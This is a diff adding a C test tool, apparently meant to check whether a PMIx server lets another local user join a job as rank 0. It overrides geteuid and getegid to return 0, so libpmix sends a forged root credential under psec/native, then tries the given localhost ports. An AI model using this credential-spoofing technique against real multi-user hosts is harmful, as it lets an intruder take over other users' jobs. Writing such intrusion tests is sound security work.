@@ -1,0 +1,60 @@
+/* Another user of the host who tries to join a job through PMIx as its rank 0. Started as root, it
+ * becomes user 65534 first.
+ *
+ *   pmix_intruder NAMESPACE PORT...
+ *
+ * Tries each port of 127.0.0.1. Prints "joined" and ends with 0 when one of them takes it for rank
+ * 0 of the namespace; ends with 1 when none does. What it says of itself is what psec/native asks
+ * for, a user id, and believes. */
+#include <grp.h>
+#include <pmix.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <sys/types.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+/* libpmix calls these to fill in its credential: the job's user is root. */
+uid_t geteuid(void) {
+  return 0;
+}
+gid_t getegid(void) {
+  return 0;
+}
+
+static int join(const char* nspace, const char* port) {
+  char uri[128];
+  snprintf(uri, sizeof uri, "x.0;tcp4://127.0.0.1:%s", port);
+  static const char* const names[] = {"PMIX_SERVER_URI41", "PMIX_SERVER_URI4", "PMIX_SERVER_URI3",
+                                      "PMIX_SERVER_URI21", "PMIX_SERVER_URI2"};
+  for (unsigned i = 0; i < sizeof names / sizeof *names; i++) setenv(names[i], uri, 1);
+  setenv("PMIX_NAMESPACE", nspace, 1);
+  setenv("PMIX_RANK", "0", 1);
+  setenv("PMIX_SECURITY_MODE", "native", 1);
+  setenv("PMIX_GDS_MODULE", "hash", 1);
+  setenv("PMIX_MCA_gds", "hash", 1);
+  setenv("PMIX_MCA_ptl_tcp_max_retries", "1", 1);
+  alarm(20);
+  pmix_proc_t self;
+  if (PMIx_Init(&self, NULL, 0) != PMIX_SUCCESS) return 1;
+  puts("joined");
+  fflush(stdout);
+  return 0;
+}
+
+int main(int argc, char** argv) {
+  if (argc < 3) return 2;
+  if (setgroups(0, NULL) != 0 || setresgid(65534, 65534, 65534) != 0 ||
+      setresuid(65534, 65534, 65534) != 0) {
+    perror("cannot become another user");
+    return 2;
+  }
+  for (int i = 2; i < argc; i++) { /* libpmix opens once in a process */
+    const pid_t child = fork();
+    if (child == 0) _exit(join(argv[1], argv[i]));
+    int status = 0;
+    waitpid(child, &status, 0);
+    if (WIFEXITED(status) && WEXITSTATUS(status) == 0) return 0;
+  }
+  return 1;
+}
